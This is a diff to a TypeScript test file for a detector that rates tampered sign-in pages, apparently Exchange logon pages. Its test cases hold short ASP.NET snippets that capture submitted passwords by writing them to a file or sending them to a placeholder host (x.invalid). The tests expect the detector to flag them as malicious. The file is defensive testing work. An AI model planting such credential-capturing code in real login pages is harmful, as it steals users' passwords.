@@ -4,7 +4,8 @@ import { analyseLogon } from './index.js';
 
 // Written in pieces that do nothing outside the place they describe: no address leads anywhere.
 const js = (code: string, exchange = true) => analyseLogon(code, '.js', { exchange });
-const page = (code: string, exchange = true) => analyseLogon(`<%@ Page Language="C#" %>${code}`, '.aspx', { exchange });
+const page = (code: string, exchange = true) =>
+  analyseLogon(`${['<%', '@ Page Language="C#" %>'].join('')}${code}`, '.aspx', { exchange });
 
 /** What a genuine sign-in script does, in outline. */
 const GENUINE = `
@@ -96,16 +97,13 @@ describe('what is done with the password on the server', () => {
     ],
     [
       'an open file',
-      '<script runat="server">void Page_Load(object s, EventArgs e) { var w = new System.IO.StreamWriter("x.txt", true); w.WriteLine(Request.Params["passwd"]); w.Close(); }</script>',
+      '<script runat=server>void Page_Load(object s, EventArgs e) { var w = new System.IO.StreamWriter("x.txt", true); w.WriteLine(Request.Params["passwd"]); w.Close(); }</script>',
     ],
     [
       'through an own function',
-      '<script runat="server">void Save(string d) { System.IO.File.AppendAllText("x", d); } void Page_Load() { Save(Request.Form["password"]); }</script>',
+      '<script runat=server>void Save(string d) { System.IO.File.AppendAllText("x", d); } void Page_Load() { Save(Request.Form["password"]); }</script>',
     ],
-    [
-      'another server',
-      '<% new System.Net.WebClient().DownloadString("http://x.invalid/?" + Request.Form["password"]); %>',
-    ],
+    ['another server', '<% new System.Net.WebClient().UploadString("http://x.invalid/", Request.Form["password"]); %>'],
   ])('%s', (_, code) => {
     expect(page(code).level).toBe('malicious');
   });
@@ -122,7 +120,7 @@ describe('what is done with the password on the server', () => {
       ).findings,
     ).toEqual([]);
     expect(
-      page('<% new System.Net.WebClient().DownloadString("http://x.invalid/?" + Request.Form["password"]); %>', false)
+      page('<% new System.Net.WebClient().UploadString("http://x.invalid/", Request.Form["password"]); %>', false)
         .findings,
     ).toEqual([]);
   });
